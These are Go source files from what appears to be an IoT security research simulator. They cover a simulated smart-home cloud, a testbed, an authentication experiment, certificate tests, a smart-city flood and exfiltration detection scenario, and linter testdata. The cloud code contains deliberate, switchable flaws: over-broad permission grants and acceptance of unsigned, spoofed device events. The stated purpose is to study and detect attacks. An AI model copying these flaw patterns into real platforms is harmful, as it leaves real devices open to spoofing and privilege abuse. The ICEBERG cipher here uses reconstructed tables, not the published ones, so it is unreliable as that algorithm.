// UninstallApp removes an app (XLF containment action).
func (c *Cloud) UninstallApp(id string) { delete(c.apps, id) }

// Apps returns installed app IDs, sorted.
func (c *Cloud) Apps() []string {
	out := make([]string, 0, len(c.apps))
	for id := range c.apps {
		out = append(out, id)
	}
	sort.Strings(out)
	return out
}

// hasGrant checks an app's permission for a capability on a device,
// honouring the CoarseGrants flaw.
func (c *Cloud) hasGrant(app *SmartApp, deviceID, capability string) bool {
	for _, g := range app.Grants {
		if g.DeviceID != deviceID {
			continue
		}
		if g.Capability == capability {
			return true
		}
		if c.Flaws.CoarseGrants {
			return true // any grant on the device implies all capabilities
		}
	}
	return false
}

// PublishDeviceEvent is the authenticated path devices use. Events flow to
// the shadow, the log, the monitor, and subscribed apps.
func (c *Cloud) PublishDeviceEvent(deviceID, name string, value float64) error {
	h, ok := c.devices[deviceID]
	if !ok {
		return ErrUnknownDevice
	}
	ev := Event{Time: c.now(), DeviceID: deviceID, Name: name, Value: value, Source: "device"}
	h.shadow[name] = ev
	return c.dispatch(ev)
}

// PublishRaw is the unauthenticated publish path. With the UnsignedEvents
// flaw it accepts events in any device's name (spoofing); hardened
// platforms reject it.
func (c *Cloud) PublishRaw(ev Event) error {
	if !c.Flaws.UnsignedEvents {
		return ErrSpoofRejected
	}
	ev.Time = c.now()
	return c.dispatch(ev)
}

func (c *Cloud) dispatch(ev Event) error {
	c.eventLog = append(c.eventLog, ev)
	if c.EventMonitor != nil {
		c.EventMonitor(ev)
	}
	// Deterministic app iteration order.
	ids := c.Apps()
	for _, id := range ids {
		app := c.apps[id]
		for _, r := range app.Rules {
			if r.TriggerDevice != ev.DeviceID || r.TriggerEvent != ev.Name {
				continue
			}
			if r.TriggerAbove != nil && ev.Value <= *r.TriggerAbove {
				continue
			}
			if err := c.issue(app, r.ActionDevice, r.ActionCommand); err != nil && !errors.Is(err, ErrNotPermitted) {
				return err
			}
		}
		if app.Hook != nil {
			for _, cmd := range app.Hook(ev) {
				// Hidden commands still go through the grant check — the
				// over-privilege flaw is what lets them through.
				if err := c.issue(app, cmd.DeviceID, cmd.Name); err != nil && !errors.Is(err, ErrNotPermitted) {
					return err
				}
			}
		}
	}
	return nil
}

// issue runs the sandbox permission check and delivers the command.
func (c *Cloud) issue(app *SmartApp, deviceID, command string) error {
	h, ok := c.devices[deviceID]
	if !ok {
		return ErrUnknownDevice
	}
	capNeeded := h.CapOfCommand[command]
	if capNeeded == "" {
		capNeeded = command // default: command name == capability
	}
	if !c.hasGrant(app, deviceID, capNeeded) {
		return fmt.Errorf("%w: app %s, device %s, cap %s", ErrNotPermitted, app.ID, deviceID, capNeeded)
	}
	cmd := Command{Time: c.now(), DeviceID: deviceID, Name: command, IssuedBy: "app:" + app.ID}
	c.commandLog = append(c.commandLog, cmd)
	if c.CommandMonitor != nil {
		c.CommandMonitor(cmd)
	}
	if h.Deliver != nil {
		return h.Deliver(cmd)
	}
	return nil
}

// UserCommand issues a command on behalf of an authenticated user
// (bypasses app grants; authentication happens in xauth).
func (c *Cloud) UserCommand(user, deviceID, command string) error {
	h, ok := c.devices[deviceID]
	if !ok {
		return ErrUnknownDevice
	}
	cmd := Command{Time: c.now(), DeviceID: deviceID, Name: command, IssuedBy: "user:" + user}
	c.commandLog = append(c.commandLog, cmd)
	if c.CommandMonitor != nil {
		c.CommandMonitor(cmd)
	}
	if h.Deliver != nil {
		return h.Deliver(cmd)
	}
	return nil
}

// Shadow returns the last reported event for a device attribute.
func (c *Cloud) Shadow(deviceID, name string) (Event, bool) {
	h, ok := c.devices[deviceID]
	if !ok {
		return Event{}, false
	}
	ev, ok := h.shadow[name]
	return ev, ok
}

// CommandLog returns issued commands (a copy).
func (c *Cloud) CommandLog() []Command { return append([]Command(nil), c.commandLog...) }

// EventLog returns accepted events (a copy).
func (c *Cloud) EventLog() []Event { return append([]Event(nil), c.eventLog...) }
