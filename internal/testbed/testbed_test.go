package testbed

import (
	"testing"
	"time"

	"xlf/internal/netsim"
	"xlf/internal/service"
)

func newHome(t *testing.T) *Home {
	t.Helper()
	h, err := New(Config{Seed: 5})
	if err != nil {
		t.Fatal(err)
	}
	return h
}

func TestHomeAssembly(t *testing.T) {
	h := newHome(t)
	if len(h.Devices) != 11 {
		t.Errorf("devices = %d, want 11 (catalog)", len(h.Devices))
	}
	// Every device's vendor domain resolves via the home DNS.
	for id, d := range h.Devices {
		for _, dom := range d.CloudDomains {
			addr, ok := h.CloudAddrOf[dom]
			if !ok {
				t.Errorf("%s domain %q has no cloud endpoint", id, dom)
				continue
			}
			if _, attached := h.Net.NodeAt(addr); !attached {
				t.Errorf("cloud endpoint %s not attached", addr)
			}
		}
		if _, attached := h.Net.NodeAt(netsim.Addr("lan:" + id)); !attached {
			t.Errorf("device %s not attached to the LAN", id)
		}
	}
	// Attacker footholds and infrastructure are attached.
	for _, a := range []netsim.Addr{"wan:attacker", "lan:attacker", "wan:cnc", "wan:victim", "wan:dns", "lan:resolver"} {
		if _, ok := h.Net.NodeAt(a); !ok {
			t.Errorf("missing node %s", a)
		}
	}
}

func TestKeepalivesFlowToVendorClouds(t *testing.T) {
	h := newHome(t)
	if err := h.Run(2 * time.Minute); err != nil {
		t.Fatal(err)
	}
	if h.WANCap.Len() == 0 {
		t.Fatal("no WAN traffic from keepalives")
	}
	// All WAN traffic is NATted: source must be the gateway's WAN face.
	for _, r := range h.WANCap.Records() {
		if r.Src.IsLAN() {
			t.Fatalf("un-NATted packet on WAN: %+v", r)
		}
	}
}

func TestUserEventFlow(t *testing.T) {
	h := newHome(t)
	if err := h.UserEvent("bulb-1", "on"); err != nil {
		t.Fatal(err)
	}
	if h.Devices["bulb-1"].State() != "on" {
		t.Error("device state not updated")
	}
	// The event reached the cloud shadow.
	if _, ok := h.Cloud.Shadow("bulb-1", "on"); !ok {
		t.Error("cloud shadow missing the event")
	}
	// Illegal event rejected.
	if err := h.UserEvent("bulb-1", "brew"); err == nil {
		t.Error("illegal event accepted")
	}
	if err := h.UserEvent("ghost", "on"); err == nil {
		t.Error("unknown device accepted")
	}
}

func TestCloudCommandReachesDevice(t *testing.T) {
	h := newHome(t)
	if err := h.Cloud.UserCommand("owner", "bulb-1", "on"); err != nil {
		t.Fatal(err)
	}
	// Delivery is asynchronous over the simulated network.
	if err := h.Run(5 * time.Second); err != nil {
		t.Fatal(err)
	}
	if h.Devices["bulb-1"].State() != "on" {
		t.Errorf("bulb state = %q after cloud command", h.Devices["bulb-1"].State())
	}
	// The acknowledging event flowed back into the cloud log.
	found := false
	for _, ev := range h.Cloud.EventLog() {
		if ev.DeviceID == "bulb-1" && ev.Name == "on" {
			found = true
		}
	}
	if !found {
		t.Error("device acknowledgement missing from the event log")
	}
}

func TestClimateAutomationEndToEnd(t *testing.T) {
	h := newHome(t)
	if err := h.InstallClimateAutomation(); err != nil {
		t.Fatal(err)
	}
	if err := h.Cloud.PublishDeviceEvent("thermo-1", "temperature", 92); err != nil {
		t.Fatal(err)
	}
	opened := false
	for _, cmd := range h.Cloud.CommandLog() {
		if cmd.DeviceID == "window-1" && cmd.Name == "open" {
			opened = true
		}
	}
	if !opened {
		t.Error("automation did not open the window above 80F")
	}
}

func TestOTAFlashUpdatesDeviceModel(t *testing.T) {
	h := newHome(t)
	img := h.OTA.Build("9.9", []byte("new-cam-firmware"))
	if err := h.OTA.Push("cam-1", img); err != nil {
		t.Fatal(err)
	}
	fw := h.Devices["cam-1"].Firmware
	if fw.Version != "9.9" || !fw.Signed || fw.Tampered {
		t.Errorf("firmware after flash = %+v", fw)
	}
	if !fw.Verify() {
		t.Error("flashed firmware fails verification")
	}
}

func TestVulnerableFlagsPropagate(t *testing.T) {
	h, err := New(Config{Seed: 5, Flaws: service.Flaws{UnsignedEvents: true}})
	if err != nil {
		t.Fatal(err)
	}
	if err := h.Cloud.PublishRaw(service.Event{DeviceID: "cam-1", Name: "motion", Source: "spoofed:x"}); err != nil {
		t.Errorf("flawed platform rejected raw publish: %v", err)
	}
}

func TestDeterministicAssembly(t *testing.T) {
	run := func() (uint64, uint64, uint64) {
		h := newHome(t)
		if err := h.Run(time.Minute); err != nil {
			t.Fatal(err)
		}
		return h.Net.Stats()
	}
	d1, dr1, b1 := run()
	d2, dr2, b2 := run()
	if d1 != d2 || dr1 != dr2 || b1 != b2 {
		t.Errorf("assembly not deterministic: (%d,%d,%d) vs (%d,%d,%d)", d1, dr1, b1, d2, dr2, b2)
	}
}

func TestZigbeeLinkForSensors(t *testing.T) {
	h := newHome(t)
	// Sensor-class devices ride the slower 802.15.4 medium; verify the
	// smoke detector's traffic is slower than the TV-class fridge's.
	start := h.Kernel.Now()
	h.Net.Send(&netsim.Packet{Src: "lan:smoke-1", Dst: "lan:gw", Size: 1000})
	h.Net.Send(&netsim.Packet{Src: "lan:fridge-1", Dst: "lan:gw", Size: 1000})
	_ = start
	var smokeAt, fridgeAt time.Duration
	h.Net.AddTap(netsim.TapLAN, func(dir netsim.TapDirection, pkt *netsim.Packet) {
		switch pkt.Src {
		case "lan:smoke-1":
			smokeAt = pkt.DeliveredAt
		case "lan:fridge-1":
			fridgeAt = pkt.DeliveredAt
		}
	})
	if err := h.Run(10 * time.Second); err != nil {
		t.Fatal(err)
	}
	if smokeAt == 0 || fridgeAt == 0 {
		t.Fatal("packets not observed")
	}
	if smokeAt <= fridgeAt {
		t.Errorf("zigbee sensor (%s) not slower than wifi appliance (%s)", smokeAt, fridgeAt)
	}
}
