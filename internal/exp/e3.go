package exp

import (
	"fmt"
	"time"

	"xlf/internal/device"
	"xlf/internal/lwc"
	"xlf/internal/metrics"
	"xlf/internal/xauth"
)

// runE3 compares the Barreto et al. baseline (cloud round trips for basic
// users; redirect + on-device SSO for advanced users) with XLF's
// delegation proxy across a scaling request mix, reporting mean and p95
// authentication latency and the on-device cost the baseline imposes on a
// constrained (Table I bulb-class) device.
//
// It is the E3 registry entry. The request mixes share one RNG stream
// (each load level continues where the last left off), so this experiment
// stays sequential internally.
func runE3(env *Env) *Result {
	r := &Result{ID: "E3", Title: "Delegated authentication: XLF proxy vs Barreto baseline"}

	users := make([]xauth.User, 0, 20)
	for i := 0; i < 20; i++ {
		priv := xauth.Basic
		mfa := ""
		if i%4 == 0 {
			priv = xauth.Advanced
			mfa = fmt.Sprintf("mfa-%d", i)
		}
		users = append(users, xauth.User{
			Name: fmt.Sprintf("user-%d", i), Password: fmt.Sprintf("pw-%d", i),
			Priv: priv, MFASecret: mfa,
		})
	}
	authority, err := xauth.NewAuthority([]byte("e3-key"), users)
	if err != nil {
		panic(err)
	}

	// On-device SSO verification time for the baseline's advanced mode: an
	// HMAC-SHA256 token check modeled on the bulb's Table I budget
	// (SHA-256 software ~ AES-class cycles/byte; token ~ 300 bytes).
	bulb, err := device.ProfileByName("Philips Hue Lightbulb")
	if err != nil {
		panic(err)
	}
	reg := lwc.NewRegistry()
	aes, _ := reg.Lookup("AES")
	cost := device.CostModel(bulb, aes.CyclesPerByte, aes.RAMBytes)
	deviceVerify := time.Duration(cost.SecondsPerKB * 0.3 * float64(time.Second))

	proxy := xauth.NewProxy(authority, xauth.DefaultProxyConfig())
	baseline := xauth.NewBaseline(authority, xauth.BaselineConfig{
		CloudRTT:     45 * time.Millisecond,
		RedirectRTT:  10 * time.Millisecond,
		DeviceVerify: deviceVerify,
	})

	rng := env.Rand()
	now := time.Hour
	tokens := make(map[string]xauth.Token)
	for _, u := range users {
		mfa := ""
		if u.MFASecret != "" {
			mfa, _ = authority.MFACodeFor(u.Name, now)
		}
		tok, err := authority.Authenticate(u.Name, u.Password, mfa, "", now)
		if err != nil {
			panic(err)
		}
		tokens[u.Name] = tok
	}

	t := metrics.NewTable("", "Requests", "Scheme", "Mean", "p95", "Denied")
	for _, nReq := range []int{100, 1000, 5000} {
		var latP, latB metrics.Latencies
		deniedP, deniedB := 0, 0
		for i := 0; i < nReq; i++ {
			u := users[rng.Intn(len(users))]
			tok := tokens[u.Name]
			write := u.Priv == xauth.Advanced && rng.Intn(4) == 0
			origin := xauth.FromLAN
			if rng.Intn(5) == 0 {
				origin = xauth.FromWAN
			}
			req := xauth.AccessRequest{
				User: u.Name, DeviceID: "", Origin: origin, Write: write, Token: &tok,
			}
			dp := proxy.Handle(req, now)
			latP.Observe(dp.Latency)
			if !dp.Allowed {
				deniedP++
			}
			db := baseline.Handle(req, now)
			latB.Observe(db.Latency)
			if !db.Allowed {
				deniedB++
			}
		}
		t.AddRow(fmt.Sprint(nReq), "xlf-proxy", latP.Mean().String(), latP.Quantile(0.95).String(), fmt.Sprint(deniedP))
		t.AddRow(fmt.Sprint(nReq), "baseline", latB.Mean().String(), latB.Quantile(0.95).String(), fmt.Sprint(deniedB))
		if nReq == 5000 {
			r.num("proxy_mean_ms", float64(latP.Mean())/1e6)
			r.num("baseline_mean_ms", float64(latB.Mean())/1e6)
		}
	}
	hits, fills, denials := proxy.Stats()
	r.Output = t.String() + fmt.Sprintf(
		"\nproxy cache: %d hits, %d fills, %d denials; baseline on-device SSO verify on the bulb: %s\n",
		hits, fills, denials, deviceVerify.Truncate(time.Microsecond))
	return r
}
