package xauth

import (
	"bytes"
	"crypto/ed25519"
	"errors"
	"testing"
	"time"
)

func testCA(t *testing.T) *CA {
	t.Helper()
	ca, err := NewCA(bytes.Repeat([]byte{1}, 32))
	if err != nil {
		t.Fatal(err)
	}
	return ca
}

func subjectKey(seed byte) (ed25519.PublicKey, ed25519.PrivateKey) {
	priv := ed25519.NewKeyFromSeed(bytes.Repeat([]byte{seed}, 32))
	return priv.Public().(ed25519.PublicKey), priv
}

func TestCAIssueAndVerify(t *testing.T) {
	ca := testCA(t)
	pub, _ := subjectKey(2)
	c, err := ca.Issue("gw-1", RoleGateway, pub, 0, 24*time.Hour)
	if err != nil {
		t.Fatal(err)
	}
	if err := VerifyCert(c, ca.PublicKey(), time.Hour, RoleGateway, ca.Revoked); err != nil {
		t.Errorf("valid cert rejected: %v", err)
	}
	// Any-role check.
	if err := VerifyCert(c, ca.PublicKey(), time.Hour, "", nil); err != nil {
		t.Errorf("any-role rejected: %v", err)
	}
}

func TestCertExpiryWindow(t *testing.T) {
	ca := testCA(t)
	pub, _ := subjectKey(2)
	c, _ := ca.Issue("gw-1", RoleGateway, pub, time.Hour, 2*time.Hour)
	if err := VerifyCert(c, ca.PublicKey(), 30*time.Minute, RoleGateway, nil); !errors.Is(err, ErrCertExpired) {
		t.Errorf("not-yet-valid err = %v", err)
	}
	if err := VerifyCert(c, ca.PublicKey(), 3*time.Hour, RoleGateway, nil); !errors.Is(err, ErrCertExpired) {
		t.Errorf("expired err = %v", err)
	}
}

func TestCertTamperAndWrongCA(t *testing.T) {
	ca := testCA(t)
	pub, _ := subjectKey(2)
	c, _ := ca.Issue("gw-1", RoleGateway, pub, 0, time.Hour)

	evil := c
	evil.Subject = "gw-evil"
	if err := VerifyCert(evil, ca.PublicKey(), time.Minute, RoleGateway, nil); !errors.Is(err, ErrCertSignature) {
		t.Errorf("tampered subject err = %v", err)
	}
	roleUp := c
	roleUp.Role = RoleCloud
	if err := VerifyCert(roleUp, ca.PublicKey(), time.Minute, "", nil); !errors.Is(err, ErrCertSignature) {
		t.Errorf("tampered role err = %v", err)
	}
	otherCA, _ := NewCA(bytes.Repeat([]byte{9}, 32))
	if err := VerifyCert(c, otherCA.PublicKey(), time.Minute, RoleGateway, nil); !errors.Is(err, ErrCertSignature) {
		t.Errorf("wrong CA err = %v", err)
	}
}

func TestCertRoleEnforcement(t *testing.T) {
	ca := testCA(t)
	pub, _ := subjectKey(2)
	c, _ := ca.Issue("app-1", RoleService, pub, 0, time.Hour)
	if err := VerifyCert(c, ca.PublicKey(), time.Minute, RoleGateway, nil); !errors.Is(err, ErrCertRole) {
		t.Errorf("role mismatch err = %v", err)
	}
}

func TestCertRevocation(t *testing.T) {
	ca := testCA(t)
	pub, _ := subjectKey(2)
	c, _ := ca.Issue("gw-1", RoleGateway, pub, 0, time.Hour)
	ca.Revoke(c.Serial)
	if err := VerifyCert(c, ca.PublicKey(), time.Minute, RoleGateway, ca.Revoked); !errors.Is(err, ErrCertRevoked) {
		t.Errorf("revoked err = %v", err)
	}
}

func TestPossessionProof(t *testing.T) {
	ca := testCA(t)
	pub, priv := subjectKey(2)
	c, _ := ca.Issue("gw-1", RoleGateway, pub, 0, time.Hour)
	challenge := []byte("nonce-12345")
	sig := ProvePossession(priv, challenge)
	if err := VerifyPossession(c, ca.PublicKey(), time.Minute, RoleGateway, ca.Revoked, challenge, sig); err != nil {
		t.Errorf("valid possession rejected: %v", err)
	}
	// The wrong private key (stolen cert, no key) fails.
	_, wrongPriv := subjectKey(3)
	badSig := ProvePossession(wrongPriv, challenge)
	if err := VerifyPossession(c, ca.PublicKey(), time.Minute, RoleGateway, ca.Revoked, challenge, badSig); err == nil {
		t.Error("possession proof with wrong key accepted")
	}
	// Replayed signature over a different challenge fails.
	if err := VerifyPossession(c, ca.PublicKey(), time.Minute, RoleGateway, ca.Revoked, []byte("other"), sig); err == nil {
		t.Error("replayed proof accepted")
	}
}

func TestIssueValidation(t *testing.T) {
	ca := testCA(t)
	pub, _ := subjectKey(2)
	if _, err := ca.Issue("", RoleGateway, pub, 0, time.Hour); err == nil {
		t.Error("empty subject accepted")
	}
	if _, err := ca.Issue("x", RoleGateway, []byte("short"), 0, time.Hour); err == nil {
		t.Error("bad key accepted")
	}
	if _, err := ca.Issue("x", RoleGateway, pub, time.Hour, time.Hour); err == nil {
		t.Error("empty validity accepted")
	}
	if _, err := NewCA([]byte("short")); err == nil {
		t.Error("short CA seed accepted")
	}
	// Serials increment.
	a, _ := ca.Issue("a", RoleUser, pub, 0, time.Hour)
	b, _ := ca.Issue("b", RoleUser, pub, 0, time.Hour)
	if b.Serial <= a.Serial {
		t.Error("serials not increasing")
	}
}
