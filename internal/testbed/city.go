package testbed

import (
	"fmt"
	"time"

	"xlf/internal/netsim"
	"xlf/internal/obs"
	"xlf/internal/sim"
)

// City is the scale scenario behind examples/smartcity and E10: a fleet of
// report-only sensors spread over districts, each district draining into
// one sink node. It exists to exercise the kernel's million-device
// contract, so the steady state allocates nothing per report:
//
//   - Sensors are not netsim nodes. Only the district sinks are attached;
//     a sensor is two pooled timer events per period (its tick and the
//     packet delivery) plus one reused Packet. Unattached sources fall
//     back to the default LAN link inside Send, which is exactly the
//     uniform access link the scenario wants.
//   - All sensors share one tick callback (a single func(any) value); the
//     per-sensor state rides in the event's boxed arg, so re-arming is a
//     pooled ScheduleArg with no closure capture.
//   - A sensor's Packet is reused across periods. That is sound because a
//     report's delivery delay is bounded by the link parameters (a few
//     milliseconds here) while the report period is seconds: the packet
//     is long delivered before its next use.
type City struct {
	Kernel *sim.Kernel
	Net    *netsim.Network

	cfg       CityConfig
	sensors   []citySensor
	tick      func(any)
	delivered []uint64 // per-district
	sent      uint64

	// Telemetry pipeline (nil unless CityConfig.RollupInterval > 0; see
	// citytelemetry.go). The hot paths hold the instruments directly, so
	// the disabled state costs one nil branch per event.
	reg           *obs.Registry
	rollup        *obs.Rollup
	det           *obs.DetectionTracker
	rec           *obs.FlightRecorder
	cSent         *obs.Counter
	cDelivered    *obs.Counter
	cAttackSent   *obs.Counter
	cFloodFlagged *obs.Counter
	cDropped      *obs.Counter

	// Per-district flood detector state, reset every window.
	windowCount    []uint64
	mgIdx          []int // Boyer-Moore majority candidate (sensor index)
	mgCnt          []uint32
	floodThreshold uint64
	lastDropped    uint64

	attackers     []cityAttacker
	attackTick    func(any)
	telemetryTick func(any)
}

// CityConfig sizes the scenario. Zero values pick scenario defaults.
type CityConfig struct {
	Seed int64
	// Devices is the sensor count (default 1000).
	Devices int
	// Districts is the sink count (default Devices/10000+1, min 16).
	Districts int
	// ReportEvery is each sensor's report period (default 10s). First
	// reports are staggered uniformly across one period so a million
	// sensors do not phase-lock into one tick.
	ReportEvery time.Duration
	// Horizon is how much simulated time Run covers (default 60s).
	Horizon time.Duration

	// RollupInterval, when positive, enables the telemetry pipeline: a
	// Rollup over the city's metrics registry ticked at this sim-time
	// interval, a detection-latency tracker, and an anomaly flight
	// recorder (citytelemetry.go). Zero disables all of it.
	RollupInterval time.Duration
	// RollupWindows bounds the rollup ring (default
	// obs.DefaultRollupWindows).
	RollupWindows int
	// DetectionSLO is the detection-latency objective (default
	// obs.DefaultDetectionSLO).
	DetectionSLO time.Duration
	// Attacks is the scripted attack timeline; requires RollupInterval
	// > 0 (the flood detector scans per rollup window).
	Attacks []CityAttack
}

// citySensor is one device's entire footprint: its reusable packet and its
// report cadence.
type citySensor struct {
	pkt    netsim.Packet
	city   *City
	period time.Duration
}

// CityStats summarizes a completed run.
type CityStats struct {
	Devices   int
	Districts int
	// Sent counts sensor reports handed to the network; Delivered counts
	// reports that reached their district sink; Dropped is the network's
	// loss/unroutable count (zero here: lossless links, attached sinks).
	Sent, Delivered, Dropped uint64
	// Events is the kernel's dispatch count for the whole run.
	Events uint64
	// Now is the simulated completion time.
	Now time.Duration
}

func (s CityStats) String() string {
	return fmt.Sprintf("%d devices / %d districts: %d sent, %d delivered, %d dropped, %d kernel events in %s simulated",
		s.Devices, s.Districts, s.Sent, s.Delivered, s.Dropped, s.Events, s.Now)
}

// NewCity wires the scenario: one kernel, one network, Districts sink
// nodes, and Devices sensors with staggered first reports.
//
//xlf:owned(testbed)
func NewCity(cfg CityConfig) (*City, error) {
	if cfg.Devices <= 0 {
		cfg.Devices = 1000
	}
	if cfg.Districts <= 0 {
		cfg.Districts = cfg.Devices/10000 + 1
		if cfg.Districts < 16 {
			cfg.Districts = 16
		}
	}
	if cfg.Districts > cfg.Devices {
		cfg.Districts = cfg.Devices
	}
	if cfg.ReportEvery <= 0 {
		cfg.ReportEvery = 10 * time.Second
	}
	if cfg.Horizon <= 0 {
		cfg.Horizon = 60 * time.Second
	}

	c := &City{
		Kernel:    sim.NewKernel(cfg.Seed),
		cfg:       cfg,
		delivered: make([]uint64, cfg.Districts),
	}
	c.Net = netsim.New(c.Kernel)

	sinkLink := netsim.Link{Latency: 200 * time.Microsecond, Bandwidth: 1e9}
	for d := 0; d < cfg.Districts; d++ {
		d := d
		sink := &netsim.FuncNode{
			Address: districtAddr(d),
			Fn:      func(_ *netsim.Network, p *netsim.Packet) { c.deliver(d, p) },
		}
		if err := c.Net.Attach(sink, sinkLink); err != nil {
			return nil, fmt.Errorf("testbed: city sink %d: %w", d, err)
		}
	}

	// The one shared tick: report, then re-arm with the same arg.
	c.tick = func(a any) {
		s := a.(*citySensor)
		s.city.sent++
		s.city.cSent.Inc()
		s.city.Net.Send(&s.pkt)
		s.city.Kernel.ScheduleArg(s.period, "city-report", s.city.tick, a)
	}

	c.sensors = make([]citySensor, cfg.Devices)
	rng := c.Kernel.Rand()
	for i := range c.sensors {
		s := &c.sensors[i]
		s.city = c
		s.period = cfg.ReportEvery
		s.pkt = netsim.Packet{
			Src:   netsim.Addr(fmt.Sprintf("lan:sensor-%d", i)),
			Dst:   districtAddr(i % cfg.Districts),
			Proto: "UDP",
			Size:  64,
		}
		offset := time.Duration(rng.Int63n(int64(cfg.ReportEvery)))
		c.Kernel.ScheduleArg(offset, "city-report", c.tick, s)
	}
	if err := c.initTelemetry(); err != nil {
		return nil, err
	}
	return c, nil
}

// deliver is every district sink's receive path: one counter per report
// plus, when telemetry is on, the per-window flood-attribution state and
// the exfiltration size check. Per-event, so it must not allocate.
//
//xlf:hotpath
func (c *City) deliver(d int, p *netsim.Packet) {
	c.delivered[d]++
	c.cDelivered.Inc()
	if c.reg == nil {
		return
	}
	c.windowCount[d]++
	if i := sensorIndexOf(p.Src); i >= 0 {
		// Boyer-Moore majority vote: the flood source dominates its
		// district's window traffic, so the surviving candidate at scan
		// time attributes the flood without per-sender state.
		switch {
		case c.mgCnt[d] == 0:
			c.mgIdx[d] = i
			c.mgCnt[d] = 1
		case c.mgIdx[d] == i:
			c.mgCnt[d]++
		default:
			c.mgCnt[d]--
		}
	}
	if p.Size >= exfilSizeThreshold {
		now := c.Kernel.Now()
		c.det.Observe(now, string(p.Src))
		c.rec.Trigger(now, obs.TriggerAlert)
	}
}

func districtAddr(d int) netsim.Addr {
	return netsim.Addr(fmt.Sprintf("lan:district-%d", d))
}

// Run drives the scenario to its horizon and reports the totals.
func (c *City) Run() (CityStats, error) {
	if err := c.Kernel.Run(c.cfg.Horizon); err != nil {
		return CityStats{}, err
	}
	var delivered uint64
	for _, n := range c.delivered {
		delivered += n
	}
	_, dropped, _ := c.Net.Stats()
	return CityStats{
		Devices:   c.cfg.Devices,
		Districts: c.cfg.Districts,
		Sent:      c.sent,
		Delivered: delivered,
		Dropped:   dropped,
		Events:    c.Kernel.Processed(),
		Now:       c.Kernel.Now(),
	}, nil
}
