package lwc

import (
	"crypto/cipher"
	"encoding/binary"
)

// ICEBERG (Standaert et al., FSE 2004) is an involutional 64-bit SPN with
// a 128-bit key, designed for reconfigurable hardware: every layer is an
// involution so encryption and decryption share the datapath. This is a
// structure-faithful reimplementation — the involutional S-layer and
// P-layer are reconstructed (self-inverse by construction and verified by
// tests) rather than copied from the published tables. Validated by
// property tests.

const icebergRounds = 16

// icebergSBox is an involutive 4-bit S-box (fixed-point-free pairing),
// reconstructed: s[s[x]] == x for all x.
var icebergSBox = [16]byte{
	0x4, 0xA, 0xF, 0xC, 0x0, 0xD, 0x9, 0xB,
	0xE, 0x6, 0x1, 0x7, 0x3, 0x5, 0x8, 0x2,
}

// icebergPerm is an involutive bit permutation on 64 bits: positions are
// swapped in pairs (i <-> 63-i with an interleave), so the permutation is
// its own inverse.
var icebergPerm = func() [64]byte {
	var p [64]byte
	for i := 0; i < 64; i++ {
		p[i] = byte(i)
	}
	// Pair bit i with bit (i*7+11) mod 64 when unpaired, producing a
	// deterministic involution with no fixed points left unhandled.
	used := [64]bool{}
	for i := 0; i < 64; i++ {
		if used[i] {
			continue
		}
		j := (i*7 + 11) % 64
		for used[j] || j == i {
			j = (j + 1) % 64
		}
		p[i], p[j] = byte(j), byte(i)
		used[i], used[j] = true, true
	}
	return p
}()

type iceberg struct {
	rk [icebergRounds + 1]uint64
}

var _ cipher.Block = (*iceberg)(nil)

// NewIceberg returns the ICEBERG cipher for a 16-byte key.
func NewIceberg(key []byte) (cipher.Block, error) {
	if len(key) != 16 {
		return nil, KeySizeError{Algorithm: "Iceberg", Len: len(key)}
	}
	hi := binary.BigEndian.Uint64(key[0:8])
	lo := binary.BigEndian.Uint64(key[8:16])
	var c iceberg
	for r := 0; r <= icebergRounds; r++ {
		// Round keys: alternate halves of the rotating 128-bit register,
		// diffused through the involutive S-layer so related keys do not
		// produce related schedules.
		if r%2 == 0 {
			c.rk[r] = icebergSub(hi ^ uint64(r)*0x9E3779B97F4A7C15)
		} else {
			c.rk[r] = icebergSub(lo ^ uint64(r)*0x9E3779B97F4A7C15)
		}
		// Rotate the 128-bit register left by 13.
		nh := hi<<13 | lo>>51
		nl := lo<<13 | hi>>51
		hi, lo = nh, nl
	}
	return &c, nil
}

func icebergSub(s uint64) uint64 {
	var out uint64
	for i := 0; i < 16; i++ {
		out |= uint64(icebergSBox[s>>uint(4*i)&0xF]) << uint(4*i)
	}
	return out
}

func icebergPermute(s uint64) uint64 {
	var out uint64
	for i := 0; i < 64; i++ {
		out |= (s >> uint(i) & 1) << uint(icebergPerm[i])
	}
	return out
}

func (c *iceberg) BlockSize() int { return 8 }

func (c *iceberg) Encrypt(dst, src []byte) {
	checkBlock("Iceberg", 8, dst, src)
	s := binary.BigEndian.Uint64(src)
	for r := 0; r < icebergRounds; r++ {
		s ^= c.rk[r]
		s = icebergSub(s)
		s = icebergPermute(s)
	}
	s ^= c.rk[icebergRounds]
	binary.BigEndian.PutUint64(dst, s)
}

func (c *iceberg) Decrypt(dst, src []byte) {
	checkBlock("Iceberg", 8, dst, src)
	s := binary.BigEndian.Uint64(src)
	s ^= c.rk[icebergRounds]
	for r := icebergRounds - 1; r >= 0; r-- {
		// Both the S-layer and the P-layer are involutions, so decryption
		// applies the same layers in reverse order.
		s = icebergPermute(s)
		s = icebergSub(s)
		s ^= c.rk[r]
	}
	binary.BigEndian.PutUint64(dst, s)
}
