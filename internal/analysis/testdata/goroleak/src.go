// Package gorofix exercises the goroleak rule: unstoppable goroutine
// loops, WaitGroup Add misuse, unbuffered sends with a receiver-free
// exit path, and the launch shapes that must stay quiet.
package gorofix

import "sync"

func work() {}

func consume(ch chan int) { <-ch }

// --- An infinite loop with no exit signal can never be stopped.

func leakForever() {
	go func() {
		for { // want "goroutine loops forever with no shutdown path"
			work()
		}
	}()
}

// okDone can be stopped through the select.
func okDone(done chan struct{}) {
	go func() {
		for {
			select {
			case <-done:
				return
			default:
				work()
			}
		}
	}()
}

// okRecv parks on a receive each round.
func okRecv(in chan int) {
	go func() {
		for {
			<-in
			work()
		}
	}()
}

// okRange terminates when the channel closes.
func okRange(in chan int) {
	go func() {
		for range in {
			work()
		}
	}()
}

//xlf:allow-goroleak: process-lifetime metrics pump, reviewed
func allowedForever() {
	go func() {
		for {
			work()
		}
	}()
}

// --- WaitGroup misuse.

func addInsideGo() {
	var wg sync.WaitGroup
	go func() {
		wg.Add(1) // want "WaitGroup.Add inside the goroutine races with Wait"
		defer wg.Done()
		work()
	}()
	wg.Wait()
}

func addBeforeGo() {
	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
		work()
	}()
	wg.Wait()
}

func addNoWait() {
	var wg sync.WaitGroup
	wg.Add(1) // want "Added to but never Waited on"
	go func() {
		defer wg.Done()
		work()
	}()
}

func waiter(wg *sync.WaitGroup) { wg.Wait() }

// wgEscapes hands the group to a helper; the wait may happen there.
func wgEscapes() {
	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
